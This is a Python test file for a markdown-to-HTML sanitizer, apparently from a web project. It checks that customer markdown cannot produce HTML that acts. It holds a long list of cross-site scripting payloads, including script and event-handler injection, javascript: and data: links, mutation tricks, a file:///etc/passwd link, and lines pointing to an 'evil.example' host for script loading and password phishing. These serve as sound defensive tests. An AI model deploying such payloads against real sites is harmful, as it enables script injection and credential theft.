"""Markdown of customers becomes HTML that can do nothing."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from manyhands.web.markdown import LONGEST, to_html

_BLOCKS = "blockquote br h1 h2 h3 h4 h5 h6 hr li ol p pre table tbody td th thead tr ul"
_SPANS = "a code del em img s strong"
ALLOWED = {*_BLOCKS.split(), *_SPANS.split()}
ATTRIBUTES = {"href", "title", "src", "alt", "start", "align", "rel", "target", "loading"}
SCHEMES = {"http", "https", "mailto"}


class Judge(HTMLParser):
    """Reads HTML as a browser does and notes whatever could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name in {"href", "src"} and not usable(value or ""):
                self.found.append(f"{name}={value}")


def usable(address: str) -> bool:
    cleaned = re.sub(r"[\x00-\x20]", "", address).lower()
    scheme, colon, _ = cleaned.partition(":")
    is_scheme = colon and re.fullmatch(r"[a-z][a-z0-9+.-]*", scheme)
    return scheme in SCHEMES if is_scheme else True


def faults(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    return judge.found


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) ",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='https://x' onclick='alert(1)' style='position:fixed'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<p id=app class=admin name=form>x</p>",
    "\0<script\0>alert(1)</script>",
    '<a href="https://x" target=_top rel=opener>x</a>',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_does_something_comes_through(payload: str) -> None:
    html = to_html(payload)
    assert faults(html) == []
    assert "<script" not in html.lower()


@given(st.lists(st.sampled_from([*PAYLOADS, "a", "\n", " ", "*", "<", ">", "`", "&"]), max_size=8))
def test_nor_does_any_mixture_of_them(parts: list[str]) -> None:
    assert faults(to_html("".join(parts))) == []


@given(st.text(alphabet='<>"/=:&;#javscriptonload \n`[]()!', max_size=80))
def test_nor_does_any_other_text(text: str) -> None:
    assert faults(to_html(text)) == []


def test_the_judge_sees_what_it_should() -> None:
    for bad in ("<script>", "<p onclick=x>", "<a href='javascript:x'>", "<img src='data:x'>"):
        assert faults(bad)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("plain", "<p>plain</p>"),
        ("two\nlines", "<p>two<br>\nlines</p>"),
        ("**bold** *it* `code` ~~no~~", "<strong>bold</strong> <em>it</em> <code>code</code>"),
        ("# Head", "<h1>Head</h1>"),
        ("1. a\n2. b", "<ol>"),
        ("3. c", '<ol start="3">'),
        ("a | b\n--|--\n1 | 2", "<td>2</td>"),
        ("> said", "<blockquote>"),
        ("a < b & c > d", "a &lt; b &amp; c &gt; d"),
        ("5 * 3 * 2", "5 * 3 * 2"),
    ],
)
def test_what_is_harmless_is_shown(text: str, html: str) -> None:
    assert html in to_html(text)


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    html = to_html("[x](https://example.com/?a=1&b=2)")
    assert 'href="https://example.com/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_picture_is_fetched_late() -> None:
    html = to_html('![car](https://example.com/car.png "A car")')
    assert 'src="https://example.com/car.png"' in html
    assert 'alt="car"' in html
    assert 'loading="lazy"' in html


def test_the_same_text_is_the_same_html() -> None:
    assert to_html("a *b*") == to_html("a *b*")


def test_a_very_long_text_is_shown_as_it_was_written() -> None:
    html = to_html("**a**\n<script>" * LONGEST)
    assert html.startswith("<p>**a**<br>\n&lt;script&gt;")
    assert faults(html) == []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("$x_1$", '<p><code class="math-inline">x_1</code></p>\n'),
        (r"so \(a_b\) is", '<p>so <code class="math-inline">a_b</code> is</p>\n'),
        ("\\[\n\\frac{a}{b}\n\\]", '<p><code class="math-display">\\frac{a}{b}</code></p>\n'),
        ("$$\nx<y\n$$", '<p><code class="math-display">x&lt;y</code></p>\n'),
        ("$5 and $6", "<p>$5 and $6</p>\n"),
        ("`$no$`", "<p><code>$no$</code></p>\n"),
        ('<code class="k-button">x</code>', "<p><code>x</code></p>\n"),
    ],
)
def test_formulas_are_left_to_the_page(text: str, html: str) -> None:
    assert to_html(text, formulas=True) == html
    assert "math" not in to_html(text)


@pytest.mark.parametrize("payload", [*PAYLOADS, "$</code><script>alert(1)</script>$"])
def test_nothing_acts_beside_formulas(payload: str) -> None:
    html = to_html(payload, formulas=True).replace(' class="math-inline"', "")
    assert faults(html) == []
